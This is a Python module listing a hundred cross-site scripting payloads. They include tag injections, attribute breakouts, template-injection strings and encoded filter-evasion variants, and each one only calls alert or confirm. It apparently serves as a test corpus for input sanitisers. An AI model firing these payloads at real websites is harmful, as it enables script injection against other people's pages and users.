"""A hundred ways to have a page run something: by marks, attributes, addresses, encodings."""

from __future__ import annotations

RUN = "alert(1)"
MARKS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'>",
    f"<iframe src=javascript:{RUN}>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<style>@import 'javascript:{RUN}';</style>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
    f"<form><button formaction=javascript:{RUN}>x",
)
BREAKS = (
    f'" onmouseover="{RUN}',
    f"' onfocus='{RUN}' autofocus='",
    f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>",
    f'" autofocus onfocus={RUN} x="',
    f"`onload={RUN}`",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    "{{ constructor.constructor('alert(1)')() }}",
    "${alert(1)}",
    "{% include 'alert(1)' %}",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"＜script＞{RUN}＜/script＞",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"<!--><svg onload={RUN}>-->",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='&#106;avascript:{RUN}'>x</a>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"\u2028;{RUN}//",
)
PAYLOADS = tuple(
    way.replace("alert(1)", run) for run in ("alert(1)", "confirm`1`") for way in (*MARKS, *BREAKS)
)
